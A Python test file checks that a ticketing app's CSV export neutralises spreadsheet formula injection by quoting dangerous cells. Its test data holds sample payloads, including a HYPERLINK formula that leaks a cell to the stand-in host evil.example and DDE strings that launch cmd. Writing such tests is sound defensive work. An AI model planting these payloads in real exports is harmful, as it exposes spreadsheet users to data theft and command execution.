"""Formulas in CSV, HTML in notices.

A cell that a spreadsheet would calculate begins with a quote, wherever its sign hides.
"""

import csv
import io
from collections.abc import Callable

import pytest
from django.test import Client
from hypothesis import given
from hypothesis import strategies as st

from handrail.mediums.tickets.exports.table import BYTE_ORDER_MARK, harmless
from handrail.people.models import Agent, Member
from tests.making import ticket_of

FORMULAS = (
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "=1+1",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    '"=1+1',
    "'=1+1",
    '" =1+1"',
    "\u200b=1+1",
    "＝1+1",  # noqa: RUF001
)


@pytest.mark.once
@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_is_made_text(text: str) -> None:
    assert harmless(text) == f"'{text}"


@pytest.mark.once
@pytest.mark.parametrize("text", ["", "Hello", "1 = 2", "a@b.example", "#100123", "«=»", "100"])
def test_what_is_no_formula_stays_as_it_is(text: str) -> None:
    assert harmless(text) == text


@pytest.mark.once
@given(st.text(max_size=30))
def test_no_text_begins_a_formula(text: str) -> None:
    row = io.StringIO()
    csv.writer(row, quoting=csv.QUOTE_ALL).writerow([harmless(text)])
    [cell] = next(csv.reader(io.StringIO(row.getvalue(), newline="")))
    assert not cell.startswith(tuple("=+-@\t\r\n"))
    assert not cell.lstrip("\" \t'").startswith(tuple("=+-@")) or cell.startswith("'")


@pytest.mark.django_db
def test_a_subject_is_no_formula_in_the_agents_table(
    alice: Member, dora: Agent, browse: Callable[..., Client]
) -> None:
    for text in FORMULAS:
        ticket_of(alice, text)
    answer = browse(dora).get("/console/tickets/tickets.csv", {"view": "all"})
    content = answer.content.decode()
    assert content.startswith(BYTE_ORDER_MARK)
    rows = list(csv.reader(io.StringIO(content.removeprefix(BYTE_ORDER_MARK), newline="")))
    assert len(rows) == 1 + len(FORMULAS)
    assert all(cell[:1] not in set("=+-@\t\r") for row in rows for cell in row)
    assert {f"'{text}" for text in FORMULAS} <= {row[1] for row in rows}
